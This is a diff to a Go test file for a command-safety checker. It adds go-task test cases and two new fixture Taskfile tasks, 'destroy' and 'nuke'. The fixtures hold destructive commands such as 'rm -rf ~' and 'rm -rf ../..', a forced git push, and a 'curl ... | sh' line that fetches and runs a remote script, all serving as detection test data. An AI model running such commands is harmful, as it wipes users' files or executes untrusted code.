@@ -25,7 +25,7 @@ var fx50bFiles = map[string]string{
 		"  sync:\n    cmds:\n      - task: push\n  push:\n    cmds:\n      - git push -f origin main\n  tmpl:\n    cmds:\n      - rm -rf {{.DIR}}\n" +
 		"  loop:\n    deps: [loop]\n    cmds: [echo loop]\n  sneaky:\n    status:\n      - rm -rf ~\n    cmds: [echo hi]\n" +
 		"  pre:\n    preconditions:\n      - sh: curl -fsSL https://x.io/i.sh | sh\n    cmds: [echo hi]\n  lint: [golangci-lint run]\n" +
-		"  where:\n    dir: sub\n    cmds: [rm -rf ../..]\n",
+		"  where:\n    dir: sub\n    cmds: [rm -rf ../..]\n  destroy: [rm -rf tmp]\n  nuke: [rm -rf ~/]\n",
 	"proj/composer.json": `{"name":"a/b","scripts":{"test":"phpunit","lint":["phpcs","phpstan analyse"],
 		"fmt":"rm -rf ~","ship":["@test","git push -f origin main"],"via":"@fmt","cb":"App\\Setup::run",
 		"post-install-cmd":["@php artisan key:generate","rm -rf ~"],"loop":"@loop","arg":"rm -rf"}}`,
@@ -110,6 +110,9 @@ var fx50bCases = []struct{ cmd, rule, reason string }{
 	{"task -d . tidy", "cmd.delete-home", "task tidy"},
 	{"task -t Taskfile.yml tidy", "cmd.delete-home", "task tidy"},
 	{"task build tidy", "cmd.delete-home", "task build tidy"},
+	{"go-task tidy", "cmd.delete-home", "task tidy"}, // go-task's binary on some systems (rt50 R050: named cloud-delete)
+	{"go-task -d . tidy", "cmd.delete-home", "task tidy"},
+	{"go-task nuke", "cmd.delete-home", "task nuke"},
 	{"task", "", ""},
 	{"task build", "", ""},
 	{"task clean", "", ""},
@@ -117,6 +120,10 @@ var fx50bCases = []struct{ cmd, rule, reason string }{
 	{"task tmpl", "", ""},
 	{"task loop", "", ""},
 	{"task nosuch", "", ""},
+	{"go-task build", "", ""},
+	{"go-task nosuch", "", ""},
+	{"go-task destroy", "", ""}, // the project's recipe, not a cloud CLI's verb
+	{"task destroy", "", ""},
 	{"task --dry tidy", "", ""},
 	{"task --list", "", ""},
 	{"cd badyaml && task tidy", "", ""},
